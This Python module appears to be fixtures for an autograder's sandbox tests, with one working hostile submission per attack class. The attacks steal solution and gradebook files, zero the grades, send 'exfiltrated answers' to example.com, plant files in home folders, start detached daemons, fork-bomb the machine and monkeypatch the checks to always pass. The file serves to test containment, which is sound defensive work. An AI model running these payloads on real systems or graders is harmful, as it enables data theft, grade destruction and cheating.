"""Hostile students who try to steal or forge a grade: one per attack class, for assignment 1.

Each attack sits in an otherwise correct submission, so a contained attack leaves the
student exactly the points their answers earn, and the honest classmates graded in the
same run keep theirs. ``tests/test_sandbox.py`` grades them through ``make grade``'s
code and checks, for each, that it had no effect: nothing read, written, sent or left
running, no points gained. Run without the sandbox (``--unsafe-no-sandbox``) the same
code does steal and write, which shows the attacks are real.

Markers the tests look for:

- :data:`LEAK` starts every line an attack prints about something it found;
- :data:`PORT` is where the network attack sends data (the test listens there);
- :data:`DETACHED` is in the command line of the process meant to outlive grading;
- :data:`PLANTED` is the name of the file the home-folder attack writes.
"""

import base64
import textwrap

from tools import course as C
from tools import demo_class as D

LEAK = "LEAKED>>"
PORT = 47613
DETACHED = "cnn-course-detached-process"
PLANTED = ".cnn_course_planted"
ROOTS = ("/tmp", "/work", "/root", "/home", "/srv", "/var/tmp", "/opt")

# Looks around the folder it runs in (a course's autograded/<student>/<assignment>) and the
# places a course usually lives, for the instructor's and classmates' files.
_FIND = f'''
import os, time
def _find(wanted, limit=20000, seconds=10):
    found, seen, start = [], 0, time.monotonic()
    here = os.getcwd()
    nearby = [os.path.dirname(os.path.dirname(os.path.dirname(here)))]
    for root in nearby + list({ROOTS!r}):
        for here, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in (".venv", "site-packages", ".git", "node_modules", "proc")]
            for name in files:
                seen += 1
                path = os.path.join(here, name)
                if wanted(path):
                    found.append(path)
            if seen > limit or time.monotonic() - start > seconds:
                return found
    return found
'''

READ_ANSWERS = _FIND + f'''
def _secret(path):
    parts = path.split(os.sep)
    return (path.endswith("gradebook.db") or "solutions" in parts or "submitted" in parts
            or "autograded" in parts or "feedback" in parts or path.endswith("secret.txt"))
for path in _find(_secret)[:40]:
    try:
        with open(path, "rb") as handle:
            print({LEAK!r}, path, handle.read(3000))
    except OSError as error:
        pass
'''

WRITE_GRADEBOOK = _FIND + f'''
import sqlite3
for path in _find(lambda p: p.endswith("gradebook.db")):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.execute("UPDATE grade_cells SET max_score = 1000")
        db.commit()
        print({LEAK!r}, "wrote", path)
    except Exception as error:
        pass
url = os.environ.get("DATABASE_URL")
if url:
    try:
        import psycopg
        with psycopg.connect(url.replace("postgresql+psycopg://", "postgresql://")) as db:
            db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        print({LEAK!r}, "wrote", url)
    except Exception as error:
        pass
'''

NETWORK = f'''
import socket
for host in ("127.0.0.1", "localhost", "10.0.2.2", "example.com"):
    try:
        with socket.create_connection((host, {PORT}), timeout=2) as connection:
            connection.sendall(b"exfiltrated answers")
        print({LEAK!r}, "sent to", host)
    except OSError as error:
        pass
'''

WRITE_HOME = f'''
import glob, os
targets = {{os.path.expanduser("~"), os.environ.get("HOME", ""), "/root", *glob.glob("/home/*")}}
for home in sorted(t for t in targets if t):
    try:
        with open(os.path.join(home, {PLANTED!r}), "w") as handle:
            handle.write("echo the grader was here\\n")
        print({LEAK!r}, "wrote into", home)
    except OSError as error:
        pass
'''

DETACH = f'''
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {DETACHED}"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
if os.fork() == 0:            # and a daemon the classic way: fork, new session, fork again
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600; echo {DETACHED}"])
    os._exit(0)
'''

FORK_BOMB = '''
import os, time
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError as error:
    print("the process limit stopped the fork bomb after", children, "children:", error)
'''

# Tampering a static scan cannot see: the patch arrives as an encoded string ...
_PATCH = textwrap.dedent('''
    from cnnlib import grading as g
    def always_passes(*args, **kwargs):
        print("conv2d: all 5 cases agree with the reference.")
    g.check_conv2d = always_passes
    g.check_edge_image = always_passes
''')
EXEC_ENCODED = f'''
import base64
exec(base64.b64decode({base64.b64encode(_PATCH.encode())!r}).decode())
'''

# ... or swaps the checks' code in place, found through the garbage collector.
GC_SWAP = '''
import gc
def _always_passes(*args, **kwargs):
    print("conv2d: all 5 cases agree with the reference.")
for _f in gc.get_objects():
    if type(_f).__name__ == "function" and _f.__name__ in ("check_conv2d", "check_edge_image", "run_cases"):
        _f.__code__ = _always_passes.__code__
'''

WRONG_CONV2D = "def conv2d(x, w, b=None, stride=1, padding=0, dilation=1):\n    return 0\n"

WIRE_TRICK = '''
class Conv2DOutput(dict):
    """Pretends to be anything the grader might compare against."""
    def __eq__(self, other):
        return True
def conv2d(x, w, b=None, stride=1, padding=0, dilation=1):
    return Conv2DOutput()
'''

# (student, what, {cell: code}, test cells that must score 0, status, reason phrase, attack class)
ATTACKS = [
    ("attack_reads_answers", "looks for solutions/, the gradebook and classmates' work, and prints them",
     {"vertical_edges": READ_ANSWERS}, (), "graded", "", "read"),
    ("attack_writes_gradebook", "opens every gradebook it can find (and DATABASE_URL) and zeroes all grades",
     {"vertical_edges": WRITE_GRADEBOOK}, (), "graded", "", "write gradebook"),
    ("attack_network", "sends data to a server on 127.0.0.1 and to the internet",
     {"vertical_edges": NETWORK}, (), "graded", "", "network"),
    ("attack_writes_home", "writes a file into the grader's home, /root and /home/*",
     {"vertical_edges": WRITE_HOME}, (), "graded", "", "write home"),
    ("attack_detaches", "starts a process in a new session and a double-forked daemon",
     {"vertical_edges": DETACH}, (), "graded", "", "outlive grading"),
    ("attack_fork_bomb", "forks until something stops it",
     {"vertical_edges": FORK_BOMB}, (), "graded", "", "processes"),
    ("attack_exec_encoded", "a wrong conv2d, and the checks replaced by an exec of a base64 string",
     {"conv2d": WRONG_CONV2D + EXEC_ENCODED}, ("test_conv2d", "test_edges"), "flagged",
     "tampering suspected", "tamper"),
    ("attack_gc_swap", "a wrong conv2d, and the checks' code swapped in place through gc",
     {"conv2d": WRONG_CONV2D + GC_SWAP}, ("test_conv2d", "test_edges"), "flagged",
     "tampering suspected", "tamper"),
    ("attack_equal_to_anything", "returns an object whose == is always True instead of an array",
     {"conv2d": WIRE_TRICK}, ("test_conv2d", "test_edges"), "graded", "test_conv2d", "tamper"),
]


def attack_cases():
    """The attackers as :class:`tools.demo_class.Case` objects (kind 'hostile'), each an attack on its own."""
    answers = C.solution_fill(D.ASSIGNMENT)
    cases = []
    for student, what, cells, zero, status, reason, _ in ATTACKS:
        fill = {}
        for grade_id, code in cells.items():
            # the attack runs where the student's answer goes, then the right answer follows
            keep = answers[grade_id] if grade_id == "vertical_edges" else ""
            fill[grade_id] = code + ("\n" + keep if keep else "")
        cases.append(D.Case(student, "hostile", what, fill, zero, status, reason))
    return cases


def honest_cases(count=2):
    """Classmates graded in the same run: the instructor's answers, which must keep 100 points."""
    return [D.Case(f"honest_{i}", "correct", "the instructor's answers") for i in range(1, count + 1)]


# cnnlib.ops.conv2d_naive with its local names changed (the arguments keep the names the
# stub gives), reformatted and commented, and a hand-written stand-in for the cnnlib
# helper it calls (calling cnnlib would fail the check).
COPIED_REFERENCE = '''
def my_geometry(images, kernels, bias, step, pad, spread):
    pair = lambda v: (v, v) if np.isscalar(v) else tuple(v)
    (step_h, step_w), (spread_h, spread_w), (pad_h, pad_w) = pair(step), pair(spread), pair(pad)
    bias = np.zeros(kernels.shape[3]) if bias is None else bias
    out_h = (images.shape[1] + 2 * pad_h - spread_h * (kernels.shape[0] - 1) - 1) // step_h + 1
    out_w = (images.shape[2] + 2 * pad_w - spread_w * (kernels.shape[1] - 1) - 1) // step_w + 1
    return images, kernels, bias, (step_h, step_w), (spread_h, spread_w), (pad_h, pad_w), (out_h, out_w)

def conv2d(x, w, b=None, stride=1, padding=0, dilation=1):
    # my convolution: one dot product per output number
    x, w, b, (step_h, step_w), (spread_h, spread_w), pads, (rows, cols) = my_geometry(
        x, w, b, stride, padding, dilation)
    padded = zero_pad(x, pads)
    k_rows, k_cols, _, filters = w.shape
    reach_h, reach_w = spread_h * (k_rows - 1) + 1, spread_w * (k_cols - 1) + 1
    result = np.zeros((x.shape[0], rows, cols, filters), dtype=x.dtype)
    for image in range(x.shape[0]):
        for row in range(rows):
            top = row * step_h
            for col in range(cols):
                left = col * step_w
                patch = padded[image, top:top + reach_h:spread_h, left:left + reach_w:spread_w, :]
                for f in range(filters):
                    result[image, row, col, f] = conv_single_step(patch, w[:, :, :, f], b[f])
    return result
'''

ATTACKS.append(("attack_copies_reference", "cnnlib's conv2d_naive pasted with new local names, comments and layout",
                {"conv2d": COPIED_REFERENCE}, (), "flagged", "matches the reference implementation", "copy"))
